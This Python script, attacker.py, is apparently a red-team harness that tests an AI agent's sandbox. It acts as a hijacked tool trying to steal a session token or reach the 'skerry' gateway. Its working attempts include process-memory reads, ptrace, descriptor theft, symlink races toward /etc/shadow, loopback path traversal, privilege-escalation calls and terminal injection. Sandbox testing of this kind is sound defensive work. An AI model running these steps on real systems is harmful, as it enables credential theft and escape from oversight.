"""What a hijacked tool would try in order to get the session token, or a word in the gateway's ear.

    python3 attacker.py

Runs as the agent's user inside a sandbox, without anything but the standard library. Prints a line of JSON per attempt:
what was tried and what it got. Ends with 1 if anything was got.
"""

import contextlib
import ctypes
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator

TOKEN = re.compile(
    rb"skb1\.[\w.-]{40,}|boot-\d+-[0-9a-f]{32}|session-\d+-[0-9a-f]{32}|SESSION_TOKEN=[\w.-]{20,}|Bearer [\w.-]{20,}"
)
_FILES = ("environ", "mem", "maps", "smaps", "auxv", "stack", "syscall", "pagemap", "clear_refs", "attr/current")
_PTRACE_ATTACH, _PTRACE_SEIZE = 16, 0x4206
_CALLS = {"ptrace": (101, 117), "process_vm_readv": (310, 270), "kcmp": (312, 272), "process_madvise": (440, 440)}
_PIDFD_OPEN, _PIDFD_GETFD, _PIDFD_SIGNAL, _IO_URING = 434, 438, 424, 425
_COLUMN = 1 if os.uname().machine == "aarch64" else 0

libc = ctypes.CDLL(None, use_errno=True)


def call(number: int, *arguments: object) -> int:
    """A system call; raises OSError."""
    converted = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = int(libc.syscall(ctypes.c_long(number), *converted))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def named(name: str) -> list[int]:
    """Processes that call themselves so; where others are hidden, the numbers that a sandbox hands out first."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/comm", encoding="utf-8") as comm:
            if comm.read().strip() == name:
                found.append(int(pid))
    return found


def holders() -> list[int]:
    """Whoever knows the token, or knew it."""
    return sorted({*named("skerry-gateway"), *named("skerry-init")}) or [1, 2, 3, 4, 5, 6]


def environments() -> Iterator[str]:
    """Tokens in any environment or command line."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                if TOKEN.search(file.read()):
                    yield f"a token in {name} of {pid}"


def memory_files() -> Iterator[str]:
    """The holders' memory and everything else that /proc knows of them, also by way of their threads."""
    for pid in holders():
        for folder in (f"/proc/{pid}", f"/proc/{pid}/task/{pid}"):
            for name in _FILES:
                with contextlib.suppress(OSError), open(f"{folder}/{name}", "rb") as file:
                    if name == "mem":
                        yield f"{folder}/mem opens"
                    elif name != "attr/current" and file.read(1):
                        yield f"{folder}/{name} can be read"
            for name in ("cwd", "root", "exe"):
                with contextlib.suppress(OSError):
                    yield f"{folder}/{name} is {os.readlink(f'{folder}/{name}')}"


def race_of_exec() -> Iterator[str]:
    """A memory file opened just before its process closes itself to inspection."""
    own = os.getppid()
    for _ in range(200):
        for pid in [*holders(), own]:
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
                if pid != own or named("skerry-agent") == [own]:
                    yield f"/proc/{pid}/mem opened in a race"
                    return


def descriptors() -> Iterator[str]:
    """Sockets, pipes and files of the holders, and of the loop."""
    for pid in [*holders(), *named("skerry-agent")]:
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    yield f"descriptor {name} of {pid} is {os.readlink(f'/proc/{pid}/fd/{name}')}"
                with contextlib.suppress(OSError):
                    os.close(os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK))
                    yield f"descriptor {name} of {pid} opens"


def stolen_descriptors() -> Iterator[str]:
    """The same by a handle on the process."""
    for pid in [*holders(), *named("skerry-agent")]:
        with contextlib.suppress(OSError):
            handle = call(_PIDFD_OPEN, pid, 0)
            for number in range(16):
                with contextlib.suppress(OSError):
                    yield f"descriptor {call(_PIDFD_GETFD, handle, number, 0)} taken from {pid}"
            os.close(handle)


def tracing() -> Iterator[str]:
    """A debugger's ways, on the holders and on the loop, which is the attacker's own user."""
    buffer = ctypes.create_string_buffer(64)
    here, there = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64), (ctypes.c_size_t * 2)(0x400000, 64)
    for pid in [*holders(), *named("skerry-agent")]:
        for request in (_PTRACE_ATTACH, _PTRACE_SEIZE):
            with contextlib.suppress(OSError):
                call(_CALLS["ptrace"][_COLUMN], request, pid, 0, 0)
                yield f"traces {pid}"
        with contextlib.suppress(OSError):
            call(_CALLS["process_vm_readv"][_COLUMN], pid, here, 1, there, 1, 0)
            yield f"reads memory of {pid}"
        with contextlib.suppress(OSError):
            call(_CALLS["kcmp"][_COLUMN], pid, os.getpid(), 0, 0, 0)
            yield f"compares with {pid}"


def signalling() -> Iterator[str]:
    """Ending or stopping the holders, each in the ways there are."""
    for pid in holders():
        for number in (0, signal.SIGURG, signal.SIGCONT):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
                yield f"signal {number} reaches {pid}"
        with contextlib.suppress(OSError):
            call(_PIDFD_SIGNAL, call(_PIDFD_OPEN, pid, 0), 0, None, 0)
            yield f"a signal by handle reaches {pid}"


def slowing() -> Iterator[str]:
    """Making the holders too slow to be of use."""
    for pid in holders():
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, pid, 19)
            yield f"slows {pid}"
        with contextlib.suppress(OSError):
            os.sched_setaffinity(pid, {0})
            yield f"pins {pid}"


def cores() -> Iterator[str]:
    """A crash that writes memory to a file: one's own, and one asked for."""
    with contextlib.suppress(OSError, ValueError):
        import resource

        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        yield "core files allowed"
    for pid in [*holders(), *named("skerry-agent")]:
        with contextlib.suppress(OSError):
            import resource

            resource.prlimit(pid, resource.RLIMIT_CORE, (1, 1))
            yield f"limits of {pid} changed"
        with contextlib.suppress(OSError), open(f"/proc/{pid}/coredump_filter", "w", encoding="ascii") as file:
            file.write("0xff")
            yield f"coredump_filter of {pid} changed"
    with contextlib.suppress(OSError), open("/proc/sys/kernel/core_pattern", "w", encoding="ascii"):
        yield "core_pattern opens for writing"


def leaving() -> Iterator[str]:
    """Becoming somebody else, or going where nothing of this holds."""
    attempts: dict[str, Callable[[], None]] = {
        "setuid(0)": lambda: os.setuid(0),
        "setuid(10001)": lambda: os.setuid(10001),
        "setgid(0)": lambda: os.setgid(0),
        "chroot": lambda: os.chroot("/tmp"),
    }
    for name, attempt in attempts.items():
        with contextlib.suppress(OSError):
            if os.getuid() != 0 or not name.endswith("(0)"):
                attempt()
                yield name
    for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
        with contextlib.suppress(OSError):
            if libc.unshare(flag) == 0:
                yield f"a namespace of its own ({flag:#x})"
    for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["ip", "link"]):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            done = subprocess.run(command, capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
            if done.returncode == 0 and command[0] != "ip":
                yield f"{command[0]} works"


def older_doors() -> Iterator[str]:
    """The 32-bit entrance and the calls of another architecture, where a filter may have forgotten to look."""
    for number in (0x40000000 + 101, 0x40000000 + 521):
        child = os.fork()
        if child == 0:
            with contextlib.suppress(OSError):
                call(number, 0, 0, 0, 0)
                os._exit(0)
            os._exit(1)
        if os.waitpid(child, 0)[1] == 0:
            yield f"call {number:#x} works"
    with contextlib.suppress(OSError):
        call(_IO_URING, 4, ctypes.create_string_buffer(256))
        yield "io_uring works"
    for family in (17, 40, 38, 16):
        with contextlib.suppress(OSError):
            socket.socket(family, socket.SOCK_RAW, 9 if family == 16 else 0).close()
            yield f"socket of family {family}"


def inherited() -> Iterator[str]:
    """Descriptors that the runtime forgot to close, and what can be heard or said over them."""
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            if target.startswith("socket:"):
                yield f"descriptor {name} is {target}"


def impersonation() -> Iterator[str]:
    """Speaking to the gateway as if one were the loop: by any local socket there is, named or not."""
    with contextlib.suppress(OSError), open("/proc/net/unix", encoding="utf-8") as sockets:
        for line in list(sockets)[1:]:
            name = line.split()[7:]
            if not name:
                continue
            address = "\0" + name[0][1:] if name[0].startswith("@") else name[0]
            for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
                with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as made:
                    made.settimeout(1)
                    made.connect(address)
                    made.sendall(b'{"verb": "state", "arguments": []}\n')
                    if made.recv(100):
                        yield f"{name[0]} answers"


def forged_token() -> Iterator[str]:
    """Whatever listens on the loopback, asked for what only the token opens."""
    with contextlib.suppress(OSError):
        with open("/proc/net/tcp", encoding="ascii") as sockets:
            ports = {
                int(line.split()[1].partition(":")[2], 16) for line in list(sockets)[1:] if line.split()[3] == "0A"
            }
        for port in ports:
            for path in ("/sandbox/v1/state", "/llm/../state", "/openai/v1/../../../state"):
                with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as made:
                    made.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
                    answer = made.recv(4096)
                    if b" 200 " in answer.partition(b"\r\n")[0] or TOKEN.search(answer):
                        yield f"port {port} answers {path}"


def runtime_files() -> Iterator[str]:
    """Reading the runtime where the processes' own command lines say that it lies."""
    for pid in [*holders(), os.getppid()]:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as line:
            for part in line.read().split(b"\0"):
                if part.endswith(b"skerry_runtime") and os.listdir(part):
                    yield f"{part.decode()} can be listed"


def kernel_memory() -> Iterator[str]:
    """The machine's memory and disks."""
    for path in (
        "/dev/mem",
        "/dev/kmem",
        "/dev/kmsg",
        "/proc/kcore",
        "/proc/kallsyms",
        "/dev/vda",
        "/dev/sda",
        "/dev/nvme0n1",
    ):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            content = file.read(4096)
            if path != "/proc/kallsyms" or re.search(rb"^0*[1-9a-f]", content):
                yield f"{path} can be read"


def search_of_files() -> Iterator[str]:
    """Every small file that can be read, for anything that looks like a token."""
    ends = time.monotonic() + 5
    for top in ("/tmp", "/run", "/var", "/etc", "/root", "/home", "/dev/shm", os.getcwd()):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                if time.monotonic() > ends:
                    return
                with contextlib.suppress(OSError):
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20 and os.path.realpath(__file__) != path:
                        with open(path, "rb") as file:
                            found = TOKEN.search(file.read())
                            if found:
                                yield f"a token in {path}: {found[0].decode()}"


def symlink_races() -> Iterator[str]:
    """Files that turn into links to what only the gateway or root may read, while the loop stores the workspace."""
    swap = tempfile.mkdtemp(prefix="race-", dir=os.getcwd())
    target = "/proc/1/environ" if os.getuid() != 0 else "/etc/shadow"
    ends = time.monotonic() + float(os.environ.get("RACE_SECONDS", "3"))
    plain, link, shown = (os.path.join(swap, name) for name in ("plain", "link", "shown.txt"))
    while time.monotonic() < ends:
        with contextlib.suppress(OSError):
            with open(plain, "w", encoding="utf-8") as file:
                file.write("harmless")
            os.rename(plain, shown)
            os.symlink(target, link)
            os.rename(link, shown)
            os.unlink(shown)
            os.mkfifo(shown)
            os.unlink(shown)
    with open(shown, "w", encoding="utf-8") as file:
        file.write("harmless")
    os.symlink("/", os.path.join(swap, "everything"))
    yield from ()


def scaring_init() -> Iterator[str]:
    """Having init adopt, and be confused by, children that end in odd ways."""
    for number in (signal.SIGKILL, signal.SIGSEGV, signal.SIGTERM):
        child = os.fork()
        if child == 0:
            if os.fork() == 0:
                os.kill(os.getpid(), number)
            os._exit(0)
        os.waitpid(child, 0)
    yield from ()


def terminal() -> Iterator[str]:
    """Typing into whatever terminal there is."""
    import fcntl

    with contextlib.suppress(OSError), open("/dev/tty", "wb") as tty:
        fcntl.ioctl(tty, 0x5412, b"x")
        yield "a character typed into the terminal"


ATTEMPTS: tuple[Callable[[], Iterator[str]], ...] = (
    environments,
    memory_files,
    race_of_exec,
    descriptors,
    stolen_descriptors,
    tracing,
    signalling,
    slowing,
    cores,
    leaving,
    older_doors,
    inherited,
    impersonation,
    forged_token,
    runtime_files,
    kernel_memory,
    search_of_files,
    scaring_init,
    terminal,
    symlink_races,
)


def main() -> int:
    """Tries everything."""
    successes = 0
    for attempt in ATTEMPTS:
        try:
            got = list(attempt())
        except Exception as failure:
            got = []
            note = f"broke off: {type(failure).__name__}: {failure}"
        else:
            note = ""
        successes += len(got)
        purpose = (attempt.__doc__ or "").strip().splitlines()[0]
        print(json.dumps({"attempt": attempt.__name__, "purpose": purpose, "got": got, "note": note}), flush=True)
    return 1 if successes else 0


if __name__ == "__main__":
    sys.exit(main())
